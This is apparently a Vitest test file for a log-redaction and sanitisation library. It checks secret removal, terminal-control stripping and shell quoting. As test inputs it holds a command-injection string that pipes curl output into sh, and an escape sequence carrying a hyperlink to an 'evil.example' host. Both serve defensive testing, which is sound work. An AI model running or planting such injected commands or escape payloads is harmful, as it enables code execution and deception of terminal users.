import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redact, redactDeep, shellQuote, stripControls } from '../../shared/text/redact.js';
import { SECRET_CORPUS } from '../support/secretCorpus.js';

describe('redact: the secret corpus', () => {
  it('covers at least 25 kinds', () => {
    expect(new Set(SECRET_CORPUS.map((s) => s.kind)).size).toBeGreaterThanOrEqual(25);
  });

  it.each(SECRET_CORPUS.map((s) => [s.kind, s] as const))('%s', (_kind, s) => {
    const out = redact(`some context ${s.text} more context`);
    expect(out).not.toContain(s.secret);
    expect(out).toContain('[REDACTED]');
    expect(redact(out)).toBe(out);
  });

  it.each(SECRET_CORPUS.map((s) => [s.kind, s] as const))('%s inside JSON-escaped text', (_kind, s) => {
    const out = redact(JSON.stringify({ message: `x ${s.text} y` }));
    expect(out).not.toContain(s.secret);
  });

  it('redacts a PEM block as a block, and a key body whose BEGIN line was cut off', () => {
    const pem = SECRET_CORPUS.find((s) => s.kind === 'PEM private key')!.text;
    const lines = pem.split('\n');
    const out = redact(`before\n${pem}\nafter`);
    for (const body of lines.slice(1, -1)) expect(out).not.toContain(body.slice(0, 20));
    expect(out).toContain('before\n');
    expect(out).toContain('\nafter');
    const tailOnly = lines.slice(2).join('\n');
    expect(redact(tailOnly)).not.toContain(lines[2]!.slice(0, 20));
  });

  it('keeps ordinary evidence readable', () => {
    for (const line of [
      "ModuleNotFoundError: No module named 'sklearn'",
      '0/3 nodes are available: 3 Insufficient nvidia.com/gpu.',
      'Back-off restarting failed container inference-server in pod x_default(abc)',
      'MountVolume.SetUp failed for volume "model" : rpc error: code = Internal desc = exit status 1',
      'Error: ImagePullBackOff: rpc error: code = NotFound desc = manifest unknown',
      'tolerations: key: node.kubernetes.io/not-ready',
      // A secret-named label in prose: the word after it is prose, not a value.
      'Failed to refresh token: cluster identity is not set up properly.',
      'POST request to https://myacr.azurecr.io/oauth2/token: 401 Unauthorized',
      // Names with a secret-like tail, and commands we quote in code spans.
      'the key secret azureml-demo/azure-storage-secret — usually the account key was rotated',
      'Re-apply the SSL configuration so Azure ML recreates the secret: `AksCompute.update(AksUpdateConfiguration(x))`',
    ])
      expect(redact(line)).toBe(line);
  });

  it('still redacts a value after a secret name when it ends the line or has digits, capitals or symbols', () => {
    for (const [line, kept] of [
      ['password: hunter', 'password: '],
      ['DB_PASSWORD: hunter2 and more', 'DB_PASSWORD: '],
      ['token: Zm9vYmFy words after', 'token: '],
      ['client_secret: abc-def more', 'client_secret: '],
      ['az acr login -n x --password Zx9 now', 'az acr login -n x --password '],
    ] as const) {
      const out = redact(line);
      expect(out.startsWith(`${kept}[REDACTED]`), out).toBe(true);
    }
  });

  it('redacts secret-named values in objects, and env name/value pairs', () => {
    const out = redactDeep({
      primaryKey: 'abcPrimary',
      env: [
        { name: 'DB_PASSWORD', value: 'pwInEnv' },
        { name: 'LOG_LEVEL', value: 'debug' },
      ],
      when: new Date(0),
      nested: { message: 'AccountKey=deepKey;x' },
    });
    expect(JSON.stringify(out)).not.toMatch(/abcPrimary|pwInEnv|deepKey/);
    expect(out.env[1]!.value).toBe('debug');
    expect(out.when).toBeInstanceOf(Date);
  });
});

describe('redact: a secret never survives a cut after redaction (property)', () => {
  it('for every kind, position, surrounding text and cut length', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SECRET_CORPUS),
        fc.string({ maxLength: 200 }),
        fc.string({ maxLength: 200 }),
        fc.nat(),
        fc.nat(),
        (s, before, after, a, b) => {
          // Separate the planted text from the random context as a log would (own line or whitespace).
          const text = `${before}\n${s.text}\n${after}`;
          const clean = redact(text);
          expect(clean).not.toContain(s.secret);
          const start = a % (clean.length + 1);
          const end = start + (b % (clean.length - start + 1));
          const piece = redact(clean.slice(start, end));
          expect(piece).not.toContain(s.secret);
        },
      ),
      { numRuns: Number(process.env.AMLMON_FUZZ_RUNS ?? 300) },
    );
  });
});

describe('stripControls / shellQuote', () => {
  it('removes OSC hyperlinks, title changes, CSI and C1 controls', () => {
    const hostile =
      'a\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007b\u001b]0;pwned\u001b\\c\u001b[2Jd\u009b31me\u0007';
    expect(stripControls(hostile)).toBe('aclickbcde');
    expect(stripControls('line1\nline2\tx')).toBe('line1\nline2\tx');
  });
  it('quotes names that a shell would interpret', () => {
    expect(shellQuote('my-pod-123')).toBe('my-pod-123');
    expect(shellQuote('x; curl evil|sh')).toBe(`'x; curl evil|sh'`);
    expect(shellQuote(`it's`)).toBe(`'it'\\''s'`);
  });
});
